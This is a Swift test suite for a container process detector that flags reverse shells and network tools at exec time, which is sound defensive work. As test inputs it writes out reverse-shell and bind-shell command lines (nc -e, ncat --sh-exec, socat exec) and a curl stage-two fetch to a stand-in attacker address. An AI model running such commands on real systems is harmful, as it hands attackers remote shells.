import Foundation
import PodwallCore
import Testing

@testable import PodwallDetection

/// The exec-time judgement of every technique in
/// ../shared/research/reverse-shells.md that shows at exec, and the benign
/// look-alikes that must stay quiet.
@Suite("Process detector")
struct ProcessDetectorTests {
    static let attacker = ip("203.0.113.9")
    static let source = AlertSource(address: ip("10.1.0.9"), ifindex: 7, podName: "shop/web")

    static func socket(remotePort: UInt16 = 4444) -> StdioDescriptor {
        .inetSocket(.init(proto: .tcp, local: ip("10.1.0.9"), localPort: 41000, remote: attacker, remotePort: remotePort, inode: 99))
    }

    static func exec(
        _ comm: String, _ arguments: [String], stdio: [StdioDescriptor] = [.pipe(inode: 1), .pipe(inode: 2), .pipe(inode: 3)],
        killed: Bool = false
    )
        -> ExecRecord
    {
        ExecRecord(
            process: ProcessIdentity(pid: 4242, namespacePid: 7, parentPid: 4200, cgroupID: 55, startNs: Clock.t0),
            timestampNs: Clock.t0, comm: comm, filename: "/usr/bin/" + comm, arguments: arguments, stdio: stdio,
            killedAtExec: killed)
    }

    func judge(_ exec: ExecRecord) -> Alert? {
        var detector = ProcessDetector()
        return detector.observe(exec, source: Self.source, now: Clock.t0 + 2 * Clock.ms).first
    }

    @Test("bash -i with the connection on its stdio (bash /dev/tcp, nc -e, python dup2, perl)")
    func shellWithSocketStdio() throws {
        for comm in ["bash", "sh", "dash", "python3", "perl"] {
            let alert = try #require(
                judge(Self.exec(comm, [comm, "-i"], stdio: [Self.socket(), Self.socket(), Self.socket()], killed: true)))
            #expect(alert.kind == .reverseShell)
            #expect(alert.severity == .critical)
            guard case .process(let evidence) = alert.evidence else { Issue.record("evidence \(alert.evidence)"); return }
            #expect(evidence.technique == .socketOnStdio)
            #expect(evidence.remote == Self.attacker)
            #expect(evidence.remotePort == 4444)
            #expect(evidence.killedAtExec)
            #expect(evidence.stdio.first == "tcp 10.1.0.9:41000->203.0.113.9:4444")
            #expect(ResponsePolicy().actions(for: alert).contains(.block(remote: Self.attacker, ttlSeconds: 86_400)))
        }
    }

    @Test("only stderr on the socket still counts")
    func socketOnStderrOnly() {
        #expect(judge(Self.exec("sh", ["sh"], stdio: [.terminal, .terminal, Self.socket()]))?.kind == .reverseShell)
    }

    @Test("nc -e, ncat --sh-exec and socat exec: name the attacker")
    func toolsThatExecutePrograms() throws {
        let cases: [(String, [String])] = [
            ("nc", ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"]),
            ("ncat", ["ncat", "--sh-exec", "sh -i", "203.0.113.9", "4444"]),
            ("socat", ["socat", "exec:bash -li,pty,stderr", "tcp:203.0.113.9:4444"]),
            ("socat", ["socat", "TCP4:203.0.113.9:4444", "EXEC:/bin/sh"])
        ]
        for (comm, arguments) in cases {
            let alert = try #require(judge(Self.exec(comm, arguments)), "\(arguments)")
            #expect(alert.kind == .reverseShell)
            guard case .process(let evidence) = alert.evidence else { Issue.record("evidence"); return }
            #expect(evidence.technique == .toolExecutesProgram)
            #expect(evidence.remote == Self.attacker, "\(arguments)")
            #expect(evidence.remotePort == 4444, "\(arguments)")
        }
        let bind = try #require(judge(Self.exec("nc", ["nc", "-l", "-p", "4444", "-e", "/bin/sh"])))
        #expect(bind.kind == .reverseShell, "a bind shell names no remote but is one")
    }

    @Test("a network tool alone is a network_tool alert with its target")
    func networkTool() throws {
        let curl = try #require(judge(Self.exec("curl", ["curl", "-e", "x", "http://203.0.113.9:8080/stage2"])))
        #expect(curl.kind == .networkTool, "curl's -e is a referer, not an exec")
        guard case .process(let evidence) = curl.evidence else { Issue.record("evidence"); return }
        #expect(evidence.remote == Self.attacker)
        #expect(evidence.remotePort == 8080)
        #expect(ResponsePolicy().actions(for: curl) == [.none], "report only by default")
        #expect(judge(Self.exec("nc", ["nc", "-z", "10.1.0.20", "80"]))?.kind == .networkTool)
    }

    @Test("benign: a shell on pipes, a pty (kubectl exec -it), a file; an ordinary program")
    func benign() {
        #expect(judge(Self.exec("sh", ["sh", "-c", "curl -f localhost"])) == nil)
        #expect(judge(Self.exec("bash", ["bash"], stdio: [.terminal, .terminal, .terminal])) == nil)
        #expect(judge(Self.exec("sh", ["sh", "/start.sh"], stdio: [.characterDevice, .file, .file])) == nil)
        #expect(judge(Self.exec("nginx", ["nginx"], stdio: [Self.socket(), Self.socket(), Self.socket()])) == nil)
        let unix = StdioDescriptor.unixSocket(inode: 5, peerInode: 6)
        #expect(
            judge(Self.exec("sh", ["sh"], stdio: [unix, unix, unix])) == nil,
            "socat's socketpair needs the peer's flows (not judged at exec)")
    }

    @Test("the evidence round-trips through JSON with its kind")
    func json() throws {
        let alert = try #require(judge(Self.exec("bash", ["bash", "-i"], stdio: [Self.socket(), Self.socket(), Self.socket()])))
        let data = try JSONEncoder().encode(alert)
        let decoded = try JSONDecoder().decode(Alert.self, from: data)
        #expect(decoded == alert)
        let text = String(decoding: data, as: UTF8.self)
        #expect(text.contains("\"technique\":\"socket_on_stdio\""))
        #expect(text.contains("\"kind\":\"reverse_shell\""))
    }
}
